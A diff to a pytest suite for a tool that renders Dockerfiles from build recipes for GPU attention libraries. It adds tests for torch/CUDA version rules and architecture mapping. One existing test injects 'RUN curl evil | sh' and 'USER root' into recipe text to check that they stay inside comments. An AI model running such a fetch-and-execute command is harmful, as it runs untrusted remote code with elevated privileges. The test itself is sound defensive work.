@@ -4,6 +4,7 @@ reach the Dockerfile as instructions."""
 from __future__ import annotations
 
 import json
+import re
 import textwrap
 from pathlib import Path
 
@@ -13,7 +14,9 @@ import pytest
 from imagegen.arch import parse_arch_list
 from imagegen.errors import RecipeError, UnsafeValueError
 from imagegen.plan import make_cell
-from imagegen.recipes import load_catalogue, load_recipe_file, recipe_from_source_tree
+from packaging.version import Version
+
+from imagegen.recipes import Recipe, load_catalogue, load_recipe_file, recipe_from_source_tree
 from imagegen.render import render_dockerfile
 
 BUILTINS = {"sageattention", "flash-attn", "flash-attn-3", "block-sparse-attn", "causal-conv1d", "mamba-ssm",
@@ -72,8 +75,8 @@ def test_sage_recipe_facts():
     assert any("obsolete for >= v2.2.0" in o["reason"] for o in sage.obsolete_patches)
     # EXT_PARALLEL is sized from the job budget (not pinned), and v2.2.0 carries upstream's sm90 fix.
     assert (sage.ext_parallel_env, sage.ext_parallel_max) == ("EXT_PARALLEL", 4) and "EXT_PARALLEL" not in sage.env
-    assert [p.name for p in sage.version("2.2.0").patches] == ["sageattention-2.2.0-sm90-fake-name.patch"]
-    assert not sage.version("main").patches  # main has the fix (d970424)
+    assert "sageattention-2.2.0-sm90-fake-name.patch" in [p.name for p in sage.version("2.2.0").patches]
+    assert "sageattention-2.2.0-sm90-fake-name.patch" not in [p.name for p in sage.version("main").patches]  # main has d970424
 
 
 def test_user_recipe_dir_adds_and_overrides(tmp_path):
@@ -141,6 +144,12 @@ def _render(recipe) -> str:
     return render_dockerfile(cell).dockerfile
 
 
+def _cell_doc(cmds) -> dict:
+    """The cell document the Dockerfile hands the build script (the IMAGEGEN_CELL_JSON heredoc)."""
+    (doc,) = [h.content for c in cmds for h in c.heredocs if h.content.lstrip().startswith('{"')]
+    return json.loads(doc)
+
+
 def test_hostile_free_text_stays_inside_comments(tmp_path):
     evil = GOOD.replace('reason: "fixed upstream"', 'reason: "fine\\nRUN curl evil | sh\\r\\nUSER root\\u2028ENV X=1"')
     evil = evil.replace('description: "a demo"', 'description: "x\\nRUN id"')
@@ -148,13 +157,15 @@ def test_hostile_free_text_stays_inside_comments(tmp_path):
     cmds = dockerfile.parse_string(text)
     assert all(c.cmd.upper() != "USER" for c in cmds)
     assert not any(c.cmd.upper() == "RUN" and "evil" in " ".join(c.value) for c in cmds)
-    assert sum(1 for c in cmds if c.cmd.upper() == "ENV") == 3  # the template's three ENV instructions only
+    clean = dockerfile.parse_string(_render(load_recipe_file(write(tmp_path, GOOD))))
+    count_env = lambda cs: sum(1 for c in cs if c.cmd.upper() == "ENV")  # noqa: E731
+    assert count_env(cmds) == count_env(clean)  # the template's own ENV instructions only
 
 
 def test_values_reach_the_build_only_as_json(tmp_path):
     text = _render(load_recipe_file(write(tmp_path, GOOD)))
     cmds = dockerfile.parse_string(text)
-    doc = json.loads([c for c in cmds if c.heredocs][1].heredocs[0].content)
+    doc = _cell_doc(cmds)
     assert doc["env"] == {"DEMO_FLAG": "1"} and doc["force_env"] == {"DEMO_FORCE_BUILD": "TRUE"}
     # No recipe value appears in a RUN instruction.
     for c in cmds:
@@ -170,7 +181,7 @@ def test_patch_text_with_a_delimiter_line_cannot_end_the_heredoc(tmp_path):
     out = _render(load_recipe_file(write(tmp_path, text)))
     cmds = dockerfile.parse_string(out)
     assert not any(c.cmd.upper() == "RUN" and c.value == ("id",) for c in cmds)
-    doc = json.loads([c for c in cmds if c.heredocs][1].heredocs[0].content)
+    doc = _cell_doc(cmds)
     assert doc["patches"][0]["text"].startswith("IMAGEGEN_CELL_JSON\n")
 
 
@@ -202,3 +213,141 @@ def test_unsafe_value_error_is_typed():
 
     with pytest.raises(UnsafeValueError):
         safety.check("a\nb", safety.IMAGE_REF, "image")
+
+
+# --------------------------------------------------------------------------------------------
+# Per-version torch / CUDA / Python ranges (`requires`) and arch mapping (`arch.runs_on`)
+
+
+def test_xformers_versions_carry_their_torch_floor_as_rules():
+    xf = load_catalogue().get("xformers")
+    floors = {v: [r.text for r in xf.version(v).requires if r.subject == "torch"] for v in xf.versions}
+    assert floors == {"0.0.35": [">= 2.10"], "0.0.33.post2": [">= 2.9"], "0.0.32": [">= 2.8"]}
+    assert [r.text for r in xf.version("0.0.35").requires if r.subject == "cuda"] == [">= 12.5"]
+
+
+def test_rule_compares_two_part_clauses_by_series_and_longer_ones_by_release():
+    v = load_recipe_file(Path("x.yaml"), text=GOOD.replace(
+        "    archs: [\"8.0\", \"9.0\"]\n",
+        "    archs: [\"8.0\", \"9.0\"]\n    requires: {torch: \">2.9\", python: \">=3.9.1\"}\n"))
+    torch_rule, py_rule = v.version(None).requires
+    assert torch_rule.allows(Version("2.10"), Version("2.10.0"))
+    assert not torch_rule.allows(Version("2.9"), Version("2.9.1"))  # the 2.9 series is not "> 2.9"
+    assert not py_rule.allows(Version("3.9"), Version("3.9"))
+
+
+REQUIRES_PROBLEMS = [
+    ('requires: [">=2.8"]', "versions.1.0.requires: expected a mapping"),
+    ('requires: {gcc: ">=11"}', "versions.1.0.requires: unknown subject 'gcc'"),
+    ('requires: {torch: "2.10+"}', "versions.1.0.requires.torch: '2.10+' is not a version range"),
+    ('requires: {torch: 5}', "versions.1.0.requires.torch: expected a version range"),
+    ('requires: {torch: {spec: ">=2.8", because: x}}', "versions.1.0.requires.torch.because: unknown key"),
+    ('requires: {cuda: {why: "no spec"}}', "versions.1.0.requires.cuda.spec: expected a version range"),
+    ('requires: {python: "===banana"}', "versions.1.0.requires.python: '===banana' is not a version range"),
+    ('requires: {torch: "' + ">=2." * 200 + '"}', "versions.1.0.requires.torch: '>=2.>=2."),
+]
+
+
+@pytest.mark.parametrize("line, expected", REQUIRES_PROBLEMS, ids=[p[1].split(": ", 1)[-1][:30] for p in REQUIRES_PROBLEMS])
+def test_bad_requires_is_one_line_naming_file_and_key(tmp_path, line, expected):
+    p = write(tmp_path, GOOD.replace('    archs: ["8.0", "9.0"]\n', f'    archs: ["8.0", "9.0"]\n    {line}\n'))
+    with pytest.raises(RecipeError) as err:
+        load_recipe_file(p)
+    msg = str(err.value)
+    assert msg.startswith(f"{p}: {expected}"), msg
+    assert "\n" not in msg and len(msg) < len(str(p)) + 250  # a hostile value is quoted, bounded
+
+
+RUNS_ON_PROBLEMS = [
+    ('runs_on: {"8.6": "9.0"}', "arch.runs_on.8.6: an sm_90 cubin does not serve a 8.6 GPU"),
+    ('runs_on: {"8.0": "8.6"}', "arch.runs_on.8.0: an sm_86 cubin does not serve a 8.0 GPU"),
+    ('runs_on: {"8.6": "8.0+PTX"}', "arch.runs_on.8.6: '8.0+PTX': give one plain compute capability"),
+    ('runs_on: {"8.x": "8.0"}', "arch.runs_on.8.x: unknown GPU architecture"),
+    ('runs_on: ["8.6"]', "arch.runs_on: expected a mapping"),
+    ('runs_on: {"12.1": "12.0"}', "versions.1.0.arch.runs_on.12.1: 12.1 runs on 12.0, which is not in this version's archs"),
+    ('runs_on: {"9.0": "9.0"}', "arch.runs_on.9.0: an sm_90 cubin does not serve a 9.0 GPU"),
+]
+
+
+@pytest.mark.parametrize("line, expected", RUNS_ON_PROBLEMS, ids=[p[0] for p in RUNS_ON_PROBLEMS])
+def test_bad_runs_on_is_one_line_naming_file_and_key(tmp_path, line, expected):
+    p = write(tmp_path, GOOD.replace("  ptx: none\n", f"  ptx: none\n  {line}\n"))
+    with pytest.raises(RecipeError) as err:
+        load_recipe_file(p)
+    assert str(err.value).startswith(f"{p}: {expected}"), str(err.value)
+    assert "\n" not in str(err.value)
+
+
+def test_runs_on_target_already_requested_is_refused(tmp_path):
+    text = GOOD.replace('archs: ["8.0", "9.0"]', 'archs: ["8.0", "8.6", "9.0"]').replace(
+        "  ptx: none\n", '  ptx: none\n  runs_on: {"8.6": "8.0"}\n')
+    with pytest.raises(RecipeError, match=r"versions\.1\.0\.arch\.runs_on\.8\.6: 8\.6 is in this version's archs"):
+        load_recipe_file(write(tmp_path, text))
+
+
+def test_flash_attn_and_bsa_map_8x_to_the_sm80_cubin_in_every_numeric_version():
+    cat = load_catalogue()
+    for name in ("flash-attn", "block-sparse-attn"):
+        for v in cat.get(name).versions.values():
+            if v.arch.style == "fixed":
+                continue  # BSA 0.0.1: its fixed sm_80 covers 8.6/8.9 by itself
+            assert {cc: v.arch.compiles_for(cc) for cc in ("8.6", "8.7", "8.9", "9.0")} == \
+                {"8.6": "8.0", "8.7": "8.0", "8.9": "8.0", "9.0": "9.0"}, (name, v.version)
+
+
+# A statement about a torch / CUDA / Python range in a version's notes. Each must be backed by a rule
+# (`requires` or the recipe-wide build floors) that the plan enforces: notes are for people, rules for
+# the plan, and a "needs torch >= 2.10" that lives only in prose gets planned as buildable anyway.
+_STATEMENTS = [
+    (re.compile(r"\b(torch|cuda|python)\s*(>=|≥|<=|≤|>|<)\s*v?(\d+(?:\.\d+)+)", re.I), None),
+    (re.compile(r"\b(?:requires|needs|only with)\s+(torch|cuda|python)\s+v?(\d+(?:\.\d+)+)", re.I), ">="),
+]
+
+
+def _excluded_by(op: str, bound: Version) -> Version:
+    """A value the statement ``<subject> <op> <bound>`` rules out, next to the bound."""
+    rel = list(bound.release)
+    if op in (">", "<"):
+        return bound
+    if op in ("<=", "≤"):
+        rel[-1] += 1
+    elif rel[-1] > 0:
+        rel[-1] -= 1
+    else:  # ">= 13.0": 12.9
+        rel[-2:] = [rel[-2] - 1, 9]
+    return Version(".".join(map(str, rel)))
+
+
+def unbacked_statements(recipe: Recipe) -> list[str]:
+    out = []
+    for v in recipe.versions.values():
+        rules = recipe.rules(v)
+        for pattern, fixed_op in _STATEMENTS:
+            for m in pattern.finditer(" ".join(v.notes.split())):
+                subject = m.group(1).lower()
+                op, bound = (fixed_op, m.group(2)) if fixed_op else (m.group(2), m.group(3))
+                probe = _excluded_by(op, Version(bound))
+                if all(r.allows(probe, probe) for r in rules if r.subject == subject):
+                    out.append(f"{recipe.name} {v.version}: notes say {m.group(0)!r}, but no rule rejects {subject} {probe}")
+    return out
+
+
+def test_every_range_stated_in_notes_is_an_enforced_rule():
+    cat = load_catalogue()
+    found = [s for r in cat.recipes.values() for s in unbacked_statements(r)]
+    assert found == []
+    # The scan sees the catalogue's statements at all (else it would pass vacuously).
+    assert any(_STATEMENTS[0][0].search(v.notes) for r in cat.recipes.values() for v in r.versions.values())
+
+
+def test_a_note_stating_a_range_without_a_rule_is_caught(tmp_path):
+    note = '    notes: "requires torch >= 2.10 (requirements.txt); needs CUDA >= 12.5; Python >= 3.10 only"\n'
+    base = GOOD.replace('    archs: ["8.0", "9.0"]\n', '    archs: ["8.0", "9.0"]\n' + note)
+    bare = load_recipe_file(write(tmp_path, base))
+    assert len(unbacked_statements(bare)) == 3
+    # A rule weaker than the note does not back it: torch >= 2.8 still lets torch 2.9 through.
+    weak = load_recipe_file(write(tmp_path, base.replace(note, note + '    requires: {torch: ">=2.8"}\n')))
+    assert [s.rsplit("no rule rejects ", 1)[1] for s in unbacked_statements(weak)] == ["torch 2.9", "cuda 12.4", "python 3.9"]
+    backed = load_recipe_file(write(tmp_path, base.replace(note, note + (
+        '    requires: {torch: {spec: ">=2.10", why: requirements.txt}, cuda: ">=12.5", python: ">=3.10"}\n'))))
+    assert unbacked_statements(backed) == []
